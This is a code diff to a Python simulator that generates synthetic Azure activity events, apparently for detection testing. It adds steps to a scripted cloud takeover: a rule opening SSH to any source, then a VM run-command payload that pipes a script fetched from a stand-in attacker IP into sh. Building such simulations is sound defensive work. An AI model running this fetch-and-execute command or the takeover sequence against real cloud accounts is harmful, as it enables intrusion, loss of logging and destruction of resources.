@@ -10,7 +10,7 @@ from simulator.bulk import bulk
 from simulator.cast import OWNER, new_id
 from simulator.cloud import Cloud
 from simulator.events import Event, EventFactory, Operation
-from simulator.routine import NSG, VAULT, VM, everyday, history
+from simulator.routine import NSG, VAULT, VM, everyday, history, security_rule
 
 __all__ = ["Live", "Step", "attack_story", "bulk", "everyday", "history", "quick_lag"]
 
@@ -27,7 +27,8 @@ class Step:
 def attack_story(make: EventFactory, start: datetime, pace: timedelta = timedelta(minutes=2)) -> list[Step]:
     """Tell how an intruder takes over: refused in its own name, then with an administrator's stolen session.
 
-    A new principal becomes Owner, then logs and network rules go, then a vault and a running machine.
+    A new principal becomes Owner, logs go, a machine is opened and made to run a script; then network rules go, a vault
+    and the machine itself.
     """
     stolen = replace(make.cast.admin, ip=make.cast.intruder.ip)
     steps = []
@@ -95,10 +96,17 @@ def _attack(make: EventFactory) -> list[tuple[str, Operation]]:
     write = "Microsoft.Authorization/roleAssignments/write"
     settings = f"{VAULT}/providers/Microsoft.Insights/diagnosticSettings/to-workspace"
     nsg = "Microsoft.Network/networkSecurityGroups"
+    opened = security_rule("22", "*", 100)
+    script = {"commandId": "RunShellScript", "script": ["curl -s http://198.51.100.77/a.sh | sh"]}
     return [
         ("refused write", Operation(write, f"{assignment}/{new_id(make.rng)}", body, "Failed")),
         ("owner granted", Operation(write, f"{assignment}/{grant_id}", body, code="Created")),
         ("diagnostics deleted", Operation("Microsoft.Insights/diagnosticSettings/delete", settings)),
+        (
+            "ssh opened",
+            Operation(f"{nsg}/securityRules/write", f"{NSG}/securityRules/allow-ssh", opened, code="Created"),
+        ),
+        ("command run", Operation("Microsoft.Compute/virtualMachines/runCommand/action", VM, script, accepted=True)),
         ("rule deleted", Operation(f"{nsg}/securityRules/delete", f"{NSG}/securityRules/deny-all", accepted=True)),
         ("nsg deleted", Operation(f"{nsg}/delete", NSG, accepted=True)),
         ("vault deleted", Operation("Microsoft.KeyVault/vaults/delete", VAULT)),
